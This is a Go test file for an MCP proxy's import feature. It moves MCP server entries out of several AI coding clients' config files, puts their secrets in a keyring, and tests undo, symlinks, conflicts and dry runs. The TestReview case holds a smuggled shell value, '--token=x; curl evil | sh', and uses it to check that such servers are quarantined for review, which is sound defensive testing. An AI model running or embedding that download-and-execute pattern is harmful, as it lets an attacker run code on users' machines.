package ops_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"mcpproxy/internal/clients"
	"mcpproxy/internal/clients/textedit"
	"mcpproxy/internal/ops"
	"mcpproxy/internal/problem"
	"mcpproxy/internal/testutil/volume"
)

const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"

// shapes contains a local and a remote server in the format of each client. The key "" is the common format.
var shapes = map[string][2]string{
	"":         {`{"command": "npx", "args": ["-y", "server-github"], "env": {"GITHUB_TOKEN": "` + token + `", "MODE": "all"}}`, `{"url": "https://example.com/mcp", "headers": {"Authorization": "Bearer abcdefghij0123456789"}}`},
	"opencode": {`{"type": "local", "command": ["npx", "-y", "server-github"], "environment": {"GITHUB_TOKEN": "` + token + `", "MODE": "all"}, "enabled": true}`, `{"type": "remote", "url": "https://example.com/mcp", "headers": {"Authorization": "Bearer abcdefghij0123456789"}}`},
	"goose":    {`{"type": "stdio", "name": "github", "cmd": "npx", "args": ["-y", "server-github"], "envs": {"GITHUB_TOKEN": "` + token + `", "MODE": "all"}, "enabled": true, "timeout": 300}`, `{"type": "streamable_http", "name": "remote", "uri": "https://example.com/mcp", "headers": {"Authorization": "Bearer abcdefghij0123456789"}, "enabled": true}`},
	"codex":    {`{"command": "npx", "args": ["-y", "server-github"], "env": {"GITHUB_TOKEN": "` + token + `", "MODE": "all"}}`, `{"url": "https://example.com/mcp", "http_headers": {"Authorization": "Bearer abcdefghij0123456789"}}`},
	"gemini":   {`{"command": "npx", "args": ["-y", "server-github"], "env": {"GITHUB_TOKEN": "` + token + `", "MODE": "all"}, "timeout": 30000}`, `{"httpUrl": "https://example.com/mcp", "headers": {"Authorization": "Bearer abcdefghij0123456789"}}`},
	"windsurf": {`{"command": "npx", "args": ["-y", "server-github"], "env": {"GITHUB_TOKEN": "` + token + `", "MODE": "all"}}`, `{"serverUrl": "https://example.com/mcp", "headers": {"Authorization": "Bearer abcdefghij0123456789"}}`},
}

// habits contains realistic file contents by format.
var habits = map[textedit.Format]map[string]string{
	textedit.JSON: {
		"plain":    "{\n  \"theme\": \"dark\"\n}\n",
		"comments": "// mine\n{\n  // a theme\n  \"theme\": \"dark\", /* yes */\n  \"list\": [1, 2,],\n}\n",
		"mark":     "\ufeff{\"theme\": \"dark\"}",
		"crlf":     "{\r\n\t\"theme\": \"dark\",\r\n\t\"more\": {}\r\n}\r\n",
		"huge":     "{\n  \"history\": [\"" + strings.Repeat("x", volume.FullOrQuick(1<<20, 64<<10)) + "\"]\n}",
	},
	textedit.TOML: {
		"plain":    "model = \"o5\"\n",
		"comments": "# mine\nmodel = \"o5\" # yes\n\n[projects.\"/tmp\"]\ntrust_level = \"trusted\"\n",
		"crlf":     "model = \"o5\"\r\n\r\n[tui]\r\ntheme = \"dark\"\r\n",
		"mark":     "\ufeffmodel = \"o5\"\n",
	},
	textedit.YAML: {
		"plain":    "GOOSE_MODE: auto\n",
		"comments": "# mine\nGOOSE_MODE: auto # yes\nlist:\n  - 1\n",
		"crlf":     "GOOSE_MODE: auto\r\nother:\r\n  a: 1\r\n",
		"mark":     "\ufeffGOOSE_MODE: auto\n",
	},
}

// TestImportFromEveryClient imports servers from each client and each form of its file. Their secrets are stored in the
// keyring, and the servers are removed from the file without any other change. An undo restores the file byte for byte.
func TestImportFromEveryClient(t *testing.T) {
	if testing.Short() {
		t.Skip("it tests all clients with all forms of files")
	}
	t.Parallel()
	for _, client := range clients.AllClients() {
		target := client.TargetFile(clients.Env{GOOS: "linux", Home: "/h", Getenv: func(string) string { return "" }})
		for habit, base := range habits[target.Format] {
			t.Run(client.ID+"/"+habit, func(t *testing.T) {
				t.Parallel()
				w := newWorld(t, "{\n  // mine\n}\n")
				f := client.TargetFile(w.env())
				text := []byte(base)
				shape, own := shapes[client.ID]
				if !own {
					shape = shapes[""]
				}
				var err error
				for i, name := range []string{"github", "remote"} {
					if text, err = textedit.SetValue(text, f.Format, json.RawMessage(shape[i]), append(slices.Clone(f.Key), name)...); err != nil {
						t.Fatal(err)
					}
				}
				w.write(strings.TrimPrefix(f.Path, w.home), string(text))
				before := string(text)

				h := w.look(client.ID)
				if len(h.Found) != 2 || len(h.Broken) != 0 {
					t.Fatalf("%+v", h.Findings)
				}
				shown, _ := json.Marshal(h.Findings)
				if strings.Contains(string(shown), token) || strings.Contains(string(shown), "abcdefghij0123456789") {
					t.Errorf("a secret is shown: %s", shown)
				}
				for _, r := range w.take(h, ops.ImportOptions{Keyring: true, Remove: true, Confirmed: true}) {
					if !r.Added || !r.Removed || r.Problem != nil || r.State == "review" {
						t.Errorf("%+v %+v", r, r.Problem)
					}
				}
				written := w.read(w.live.Path())
				for _, want := range []string{"// mine", `"GITHUB_TOKEN": "${keyring:GITHUB_TOKEN}"`, `"Bearer ${keyring:REMOTE_TOKEN}"`, `"MODE": "all"`, `"server-github"`, `"https://example.com/mcp"`} {
					if !strings.Contains(written, want) {
						t.Errorf("%s is missing in\n%s", want, written)
					}
				}
				if w.value("GITHUB_TOKEN") != token || w.value("REMOTE_TOKEN") != "abcdefghij0123456789" {
					t.Error("the secrets are not in the keyring")
				}
				after := w.read(f.Path)
				for _, line := range strings.Split(strings.TrimSpace(base), "\n") {
					if line = strings.Trim(line, "{},\r "); !strings.Contains(after, line) {
						t.Errorf("%q is missing in\n%.300s", line, after)
					}
				}
				if strings.Contains(after, "github") || strings.Contains(after, "example.com") || strings.Contains(habit, "crlf") && strings.Contains(strings.ReplaceAll(after, "\r\n", ""), "\n") {
					t.Errorf("after the removal: %q", after)
				}
				if undone := w.undo(""); len(undone) != 1 || undone[0].What != "import "+client.ID {
					t.Errorf("%+v", undone)
				}
				if got := w.read(f.Path); got != before {
					t.Errorf("after the undo, got %.300q, want %.300q", got, before)
				}
				for _, found := range w.look(client.ID).Found {
					if !found.AlreadyAdded || found.Name != found.Called {
						t.Errorf("after the import: %+v", found)
					}
				}
			})
		}
	}
}

// TestOneServerInManyClients checks that a server is added once, with the first name found. Other servers with that
// name get a number. Servers that MCPProxy already has are not added, and neither is MCPProxy itself.
func TestOneServerInManyClients(t *testing.T) {
	t.Parallel()
	w := newWorld(t, `{"listen": "127.0.0.1:8080", "mcpServers": {"here": {"command": "here-mcp", "args": ["-v"]}, "taken": {"command": "other"}}}`)
	w.write(".cursor/mcp.json", `{"mcpServers": {"same": {"command": "one"}, "taken": {"command": "two"}, "elsewhere": {"command": "here-mcp", "args": ["-v"]},
		"mcpproxy": {"url": "http://127.0.0.1:9999/mcp"}, "mcpproxy-read": {"url": "http://127.0.0.1:9999/mcp/all/read"}, "p": {"command": "/opt/mcpproxy", "args": ["stdio"]}, "q": {"url": "http://127.0.0.1:8080/mcp"}, "demo": {"command": "mcpproxy", "args": ["demo-upstream", "notes"]}}}`)
	w.write(".codeium/windsurf/mcp_config.json", `{"mcpServers": {"other": {"command": "one"}, "same": {"command": "three"}}}`)
	h := w.look("")
	var got []string
	for _, f := range h.Found {
		got = append(got, fmt.Sprintf("%s %s>%s have:%v ours:%v", f.Client, f.Called, f.Name, f.AlreadyAdded, f.IsProxy))
	}
	want := []string{
		"cursor same>same have:false ours:false", "cursor taken>taken-2 have:false ours:false", "cursor elsewhere>here have:true ours:false",
		"cursor mcpproxy>mcpproxy have:false ours:true", "cursor mcpproxy-read>mcpproxy-read have:false ours:true", "cursor p>p have:false ours:true", "cursor q>q have:false ours:true", "cursor demo>demo have:false ours:false",
		"windsurf other>same have:false ours:false", "windsurf same>same-2 have:false ours:false",
	}
	if !slices.Equal(got, want) {
		t.Fatalf("%s", strings.Join(got, "\n"))
	}
	got = nil
	for _, r := range w.take(h, ops.ImportOptions{Confirmed: true, Remove: true}) {
		got = append(got, fmt.Sprintf("%s added:%v here:%v removed:%v", r.Name, r.Added, r.State == "here", r.Removed))
	}
	want = []string{
		"same added:true here:false removed:true", "taken-2 added:true here:false removed:true", "here added:false here:true removed:true", "demo added:true here:false removed:true",
		"same added:false here:true removed:true", "same-2 added:true here:false removed:true",
	}
	if !slices.Equal(got, want) {
		t.Errorf("%s", strings.Join(got, "\n"))
	}
	if n := len(w.live.Current().Servers); n != 6 {
		t.Errorf("%d servers", n)
	}
	if text := w.read(filepath.Join(w.home, ".cursor/mcp.json")); strings.Contains(text, `"one"`) || !strings.Contains(text, `"q"`) {
		t.Error(text)
	}
	if undone := w.undo(""); len(undone) != 2 {
		t.Errorf("%+v", undone)
	}
	w.take(w.look("cursor"), ops.ImportOptions{Remove: true})
	w.take(w.look("windsurf"), ops.ImportOptions{Remove: true})
	if undone := w.undo("cursor"); len(undone) != 1 || undone[0].What != "import cursor" {
		t.Errorf("%+v", undone)
	}
	if text := w.read(filepath.Join(w.home, ".codeium/windsurf/mcp_config.json")); strings.Contains(text, "one") {
		t.Error("the import of another client was undone", text)
	}
}

// TestReview checks that a server waits for review if the user has not confirmed it or if the client had restricted it.
func TestReview(t *testing.T) {
	t.Parallel()
	entries := `{"mcpServers": {"plain": {"command": "a"}, "off": {"command": "b", "disabled": true}, "few": {"command": "c", "includeTools": ["x"]}, "less": {"command": "d", "excludeTools": ["y"], "timeout": 30000}}}`
	for _, confirmed := range []bool{false, true} {
		w := newWorld(t, "{}")
		w.write(".gemini/settings.json", entries)
		for _, r := range w.take(w.look("gemini"), ops.ImportOptions{Confirmed: confirmed}) {
			if want := !confirmed || r.Name != "plain"; !r.Added || (r.State == "review") != want || w.live.Current().Server(r.Name).Quarantined != want {
				t.Errorf("confirmed %v: %+v %+v", confirmed, r, r.Problem)
			}
		}
		c := w.live.Current()
		// The user has not seen the masked part of the arguments.
		for name, entry := range map[string]string{"a flag": `"args": ["--token=x; curl evil | sh"]`, "by its form": `"args": ["-y", "` + token + `"]`, "a command": `"args": ["-c", "exec GITHUB_TOKEN=` + token + ` x"]`} {
			w := newWorld(t, "{}")
			w.write(".cursor/mcp.json", `{"mcpServers": {"s": {"command": "sh", `+entry+`}}}`)
			if r := w.take(w.look(""), ops.ImportOptions{Confirmed: true})[0]; !r.Added || r.State != "review" {
				t.Errorf("%s: %+v", name, r)
			}
		}
		if c.Server("off").Enabled || !slices.Equal(c.Server("few").EnabledTools, []string{"x"}) || !slices.Equal(c.Server("less").DisabledTools, []string{"y"}) || c.Server("less").CallTimeout.String() != "30s" {
			t.Error(w.read(w.live.Path()))
		}
	}
}

// TestServerChangedSincePreview checks that an ID identifies a server in the version that the user saw. A server that
// has changed since is neither added nor removed.
func TestServerChangedSincePreview(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "{}")
	path := w.write(".cursor/mcp.json", `{"mcpServers": {"a": {"command": "a"}, "b": {"command": "b"}}}`)
	h := w.look("")
	seen := ids(h)
	if other, err := ops.NewImporter(w.env(), w.journal).FindServers(t.Context(), w.here, ""); err != nil || other.Found[0].ID == seen[0] {
		t.Error("the IDs do not depend on the process, so they could reveal secrets", err)
	}
	w.write(".cursor/mcp.json", `{"mcpServers": {"a": {"command": "evil"}, "b": {"command": "b"}}}`)
	var p *problem.Problem
	if _, err := w.look("").ImportServers(t.Context(), seen, ops.ImportOptions{Confirmed: true}); !errors.As(err, &p) || p.Code != problem.NotFound || len(w.live.Current().Servers) != 0 {
		t.Errorf("%v", err)
	}
	for _, r := range w.take(h, ops.ImportOptions{Remove: true}) {
		if r.Removed != (r.Name == "b") || (r.Problem != nil) != (r.Name == "a") {
			t.Errorf("%+v", r)
		}
	}
	if text := w.read(path); text != `{"mcpServers": {"a": {"command": "evil"}}}` {
		t.Error(text)
	}
}

// TestUndoInAChangedFile checks an undo in a file that the client has changed since. The undo restores the removed
// servers, keeps the client's changes and does not overwrite servers that were added under the same names.
func TestUndoInAChangedFile(t *testing.T) {
	t.Parallel()
	const before = `{"mcpServers": {"a": {"command": "a", "env": {"A_TOKEN": "` + token + `"}}, "b": {"command": "b"}}, "projects": {"/p": {"mcpServers": {"c": {"command": "c"}}}}}`
	for name, c := range map[string]struct{ now, want, says string }{
		"its state":         {`{"numStartups": 4, "mcpServers": {}, "projects": {"/p": {"mcpServers": {}}}}`, `{"numStartups": 4, ` + strings.TrimPrefix(before, "{"), ""},
		"connected since":   {`{"mcpServers": {"mcpproxy": {"url": "u"}}, "projects": {}}`, strings.Replace(before, `"b": {"command": "b"}`, `"b": {"command": "b"}, "mcpproxy": {"url": "u"}`, 1), ""},
		"nothing left":      {`{}`, before, ""},
		"one is back":       {`{"mcpServers": {"b": {"command": "b"}}}`, before, ""},
		"another is there":  {`{"mcpServers": {"b": {"command": "other"}}}`, "", "b was added to a file of Claude Code again"},
		"it is broken":      {`{"mcpServers": {`, "", "line 1"},
		"its place is text": {`{"mcpServers": "x"}`, "", "mcpServers"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, "{}")
			path := w.write(".claude.json", before)
			w.take(w.look(""), ops.ImportOptions{Keyring: true, Remove: true})
			w.write(".claude.json", c.now)
			undone, err := w.account.RestoreClientFiles("")
			if c.says != "" {
				if p := problem.From(err); err == nil || !strings.Contains(p.Message, c.says) || len(undone) != 0 || w.read(path) != c.now {
					t.Errorf("%v, %s", err, w.read(path))
				}
				return
			}
			var want, got any
			must(t, json.Unmarshal([]byte(c.want), &want))
			must(t, json.Unmarshal([]byte(w.read(path)), &got))
			if err != nil || len(undone) != 1 || !undone[0].PartlyUndone || !reflect.DeepEqual(want, got) {
				t.Errorf("%v %+v %s", err, undone, w.read(path))
			}
		})
	}
}

// TestOnlyImportedServersAreRemoved checks that a server that could not be added stays in its client, and that its
// secrets are not stored.
func TestOnlyImportedServersAreRemoved(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "{}")
	text := `{"mcpServers": {"a": {"command": "a", "env": {"A_TOKEN": "` + token + `"}}, "b": {"command": "b", "env": {"B_TOKEN": "x", "LONG": "` + strings.Repeat("x", 9<<10) + `"}}}}`
	path := w.write(".cursor/mcp.json", text)
	out := w.take(w.look(""), ops.ImportOptions{Keyring: true, Remove: true})
	if !out[0].Removed || out[1].Added || out[1].Removed || out[1].Problem == nil || w.value("B_TOKEN") != "" || w.value("A_TOKEN") != token {
		t.Errorf("%+v", out)
	}
	if got := w.read(path); !strings.Contains(got, `"b"`) || strings.Contains(got, `"a"`) {
		t.Error(got)
	}
	w.undo("")
	if w.read(path) != text {
		t.Error("the undo did not restore the text")
	}
}

// TestUnchangeableFiles checks that a file that must not be changed stays unchanged, and that the result contains the
// reason.
func TestUnchangeableFiles(t *testing.T) {
	t.Parallel()
	const entry = `{"mcpServers": {"a": {"command": "a"}}}`
	for name, c := range map[string]struct {
		path    string
		prepare func(w *world, path string)
		client  string
		says    string // text in the result; "" if the server is not found at all
		broken  string
	}{
		"read-only":     {".cursor/mcp.json", func(w *world, path string) { must(w.t, os.Chmod(path, 0o400)) }, "cursor", "is not writable", ""},
		"a project":     {"project/.mcp.json", nil, "claude", "nothing", ""},
		"a broken file": {".cursor/mcp.json", func(w *world, path string) { must(w.t, os.WriteFile(path, []byte(`{"mcpServers": {`), 0o600)) }, "cursor", "", "line 1"},
		"a link out": {".cursor/mcp.json", func(w *world, path string) {
			outside := filepath.Join(w.t.TempDir(), "mcp.json")
			must(w.t, os.Rename(path, outside))
			must(w.t, os.Symlink(outside, path))
		}, "cursor", "", "is in no directory of the client"},
		"a directory": {".cursor/mcp.json", func(w *world, path string) {
			must(w.t, os.Remove(path))
			must(w.t, os.Mkdir(path, 0o700))
		}, "cursor", "", "is not a regular file"},
		"an administrator's": {"etc/codex/managed_config.toml", func(w *world, path string) {
			must(w.t, os.WriteFile(path, []byte("[mcp_servers.a]\ncommand = \"a\"\n"), 0o600))
		}, "codex", "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, "{}")
			path := w.write(c.path, entry)
			if c.prepare != nil {
				c.prepare(w, path)
			}
			before, _ := os.ReadFile(path)
			h := w.look(c.client)
			if c.broken != "" && (len(h.Broken) != 1 || !strings.Contains(h.Broken[0].Message, c.broken)) {
				t.Errorf("%+v", h.Broken)
			}
			if c.says == "" {
				if len(h.Found) != 0 {
					t.Errorf("%+v", h.Found)
				}
				return
			}
			out := w.take(h, ops.ImportOptions{Remove: true})
			says := "nothing"
			if out[0].Problem != nil {
				says = out[0].Problem.Message
			}
			if !out[0].Added || out[0].Removed || !strings.Contains(says, c.says) {
				t.Errorf("%+v %+v", out[0], out[0].Problem)
			}
			if after, _ := os.ReadFile(path); string(after) != string(before) {
				t.Errorf("%s", after)
			}
		})
	}
}

// TestLinks checks that a symbolic link inside the home directory is shown and kept, and that its target is changed.
func TestLinks(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "{}")
	real := w.write("dotfiles/cursor.json", `{"mcpServers": {"a": {"command": "a"}, "b": {"command": "b"}}}`)
	path := filepath.Join(w.home, ".cursor/mcp.json")
	must(t, os.MkdirAll(filepath.Dir(path), 0o700))
	must(t, os.Symlink(real, path))
	h := w.look("")
	if target, _ := filepath.EvalSymlinks(real); len(h.Found) != 2 || h.Found[0].Target != target {
		t.Fatalf("%+v", h.Found)
	}
	other := w.write("dotfiles/other.json", w.read(real))
	must(t, os.Remove(path))
	must(t, os.Symlink(other, path))
	out := w.take(h, ops.ImportOptions{Remove: true})
	if out[0].Removed || out[0].Problem == nil || !strings.Contains(out[0].Problem.Message, "points to a different file") {
		t.Errorf("a link to another target: %+v", out[0])
	}
	w.take(w.look(""), ops.ImportOptions{Remove: true})
	if info, err := os.Lstat(path); err != nil || info.Mode()&os.ModeSymlink == 0 || strings.Contains(w.read(other), "command") || !strings.Contains(w.read(real), "command") {
		t.Errorf("%v %v %s %s", info, err, w.read(other), w.read(real))
	}
}

// TestProjects checks that servers that Claude Code stores for projects are found with their project and removed only
// from that project.
func TestProjects(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "{}")
	path := w.write(".claude.json", `{"numStartups": 7, "mcpServers": {"a": {"command": "a"}}, "projects": {"/work/x": {"mcpServers": {"b": {"command": "b"}}, "allowedTools": []}, "/work/y": {"mcpServers": {"b": {"command": "c"}}}}}`)
	h := w.look("claude-code")
	var got []string
	for _, f := range h.Found {
		got = append(got, string(f.Scope)+" "+f.Name)
	}
	if want := []string{"user a", "local b", "local b-2"}; !slices.Equal(got, want) {
		t.Fatalf("%q", got)
	}
	if out, err := h.ImportServers(t.Context(), ids(h)[2:], ops.ImportOptions{Remove: true}); err != nil || !out.Results[0].Removed {
		t.Errorf("%+v %v", out, err)
	}
	if text := w.read(path); strings.Contains(text, `"c"`) || !strings.Contains(text, `"/work/x": {"mcpServers": {"b": {"command": "b"}}, "allowedTools": []}`) || !strings.Contains(text, `"/work/y"`) {
		t.Error(text)
	}
}

// TestContinue checks that the servers of the client Continue are found in its configuration, in a list, and in the
// files of two folders.
func TestContinue(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "{}")
	names := func() (got []string) {
		for _, f := range w.look("Continue").Found {
			got = append(got, string(f.Scope)+" "+f.Name)
		}
		return got
	}
	w.write(".continue/config.json", `{"models": [], "mcpServers": [{"name": "old", "command": "o"}]}`)
	if got := names(); !slices.Equal(got, []string{"user old"}) {
		t.Errorf("without YAML: %q", got)
	}
	config := w.write(".continue/config.yaml", "name: mine\nversion: 0.0.1\nschema: v1\nmodels:\n  - name: m\nmcpServers:\n  - name: SQLite MCP\n    command: npx\n    args: [-y, mcp-sqlite]\n    env: {K: \"${{ secrets.K }}\"}\n")
	w.write(".continue/mcpServers/linear.yaml", "name: Linear\nschema: v1\nmcpServers:\n  - name: linear\n    type: streamable-http\n    url: https://mcp.linear.app/mcp\n")
	w.write(".continue/mcpServers/cursor.json", `{"mcpServers": {"files": {"command": "npx", "args": ["-y", "files"]}}}`)
	w.write(".continue/mcpServers/README.md", "mcpServers:")
	before := w.read(config)
	if got, want := names(), []string{"user SQLite-MCP", "user files", "user linear"}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	h := w.look("continue")
	if len(h.Broken) != 0 {
		t.Errorf("%+v", h.Broken)
	}
	for _, r := range w.take(h, ops.ImportOptions{Confirmed: true}) {
		if !r.Added || r.Problem != nil {
			t.Errorf("%+v %+v", r, r.Problem)
		}
	}
	if w.read(config) != before || !strings.Contains(w.read(w.live.Path()), `"${env:K}"`) {
		t.Errorf("%s\n%s", w.read(config), w.read(w.live.Path()))
	}
	for _, c := range clients.AllClients() {
		if c.ID == "continue" {
			t.Error("a server was removed from Continue, whose files MCPProxy does not write")
		}
	}
}

// TestImportText checks the import from a pasted text in each form. Nothing is removed from the text.
func TestImportText(t *testing.T) {
	t.Parallel()
	for _, text := range []string{`{"mcpServers": {"a": {"command": "npx", "args": ["a"]}}}`, "[mcp_servers.a]\ncommand = \"npx\"\nargs = [\"a\"]\n", `npx a`} {
		w := newWorld(t, "{}")
		h, err := w.account.FindServersInText(t.Context(), w.here, "-", []byte(text))
		if err != nil || len(h.Found) != 1 {
			t.Fatalf("%q: %v", text, err)
		}
		if out := w.take(h, ops.ImportOptions{Remove: true}); !out[0].Added || out[0].Removed || out[0].Problem != nil {
			t.Errorf("%+v", out)
		}
	}
	w := newWorld(t, "{}")
	var p *problem.Problem
	if _, err := w.account.FindServersInText(t.Context(), w.here, "-", []byte("{")); !errors.As(err, &p) || p.Code != problem.InvalidConfig {
		t.Error(err)
	}
	if _, err := w.account.FindServers(t.Context(), w.here, "../etc"); !errors.As(err, &p) || p.Code != problem.NotFound {
		t.Error(err)
	}
}

// TestTwoImportsAtOnce checks that two concurrent imports add each server once and lose none. Undoing both restores the
// file.
func TestTwoImportsAtOnce(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "{}")
	text := `{"mcpServers": {`
	for i := range 12 {
		text += fmt.Sprintf("\n  \"s%d\": {\"command\": \"mcp-%[1]d\", \"env\": {\"TOKEN\": \"of %[1]d\"}},", i)
	}
	text += "\n}}"
	path := w.write(".cursor/mcp.json", text)
	var both sync.WaitGroup
	for range 2 {
		h := w.look("")
		both.Go(func() {
			var p *problem.Problem
			if _, err := h.ImportServers(t.Context(), ids(h), ops.ImportOptions{Keyring: true, Remove: true}); err != nil && (!errors.As(err, &p) || p.Code != problem.Conflict) {
				t.Error(err)
			}
		})
	}
	both.Wait()
	seen := map[string]bool{}
	for _, s := range w.live.Current().Servers {
		seen[s.Command] = true
	}
	if n := len(w.live.Current().Servers); n != 12 || len(seen) != 12 {
		t.Errorf("%d servers, %d different", n, len(seen))
	}
	for _, s := range w.live.Current().Servers {
		for _, name := range s.SecretNames() {
			if w.value(name) == "" {
				t.Errorf("%s has lost its secret", s.Name)
			}
		}
	}
	for range 2 {
		_, _ = w.account.RestoreClientFiles("") // there may be no second import to undo
	}
	if w.read(path) != text {
		t.Error(w.read(path))
	}
}

// TestDryRun checks that a dry run changes nothing.
func TestDryRun(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "{}")
	path := w.write(".cursor/mcp.json", `{"mcpServers": {"a": {"command": "a", "env": {"TOKEN": "x"}}}}`)
	before := w.read(path)
	out := w.take(w.look(""), ops.ImportOptions{Keyring: true, Remove: true, Confirmed: true, DryRun: true})
	if out[0].Added || out[0].Removed || out[0].State != "" || !slices.Equal(out[0].Secrets, []string{"TOKEN"}) || w.sets != 0 || w.read(path) != before || w.read(w.live.Path()) != "{}" {
		t.Errorf("%+v", out)
	}
}

// TestImportNeedsIDs checks that an import requires valid server IDs.
func TestImportNeedsIDs(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "{}")
	w.write(".cursor/mcp.json", `{"mcpServers": {"mcpproxy": {"command": "mcpproxy"}, "a": {"command": "a"}}}`)
	h := w.look("")
	for name, given := range map[string][]string{"none": nil, "unknown": {"x"}, "MCPProxy": {h.Found[0].ID}, "too many": make([]string, 1001)} {
		if _, err := h.ImportServers(t.Context(), given, ops.ImportOptions{}); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
	if out, err := h.ImportServers(t.Context(), []string{h.Found[1].ID, h.Found[1].ID}, ops.ImportOptions{}); err != nil || len(out.Results) != 1 {
		t.Errorf("%+v %v", out, err)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
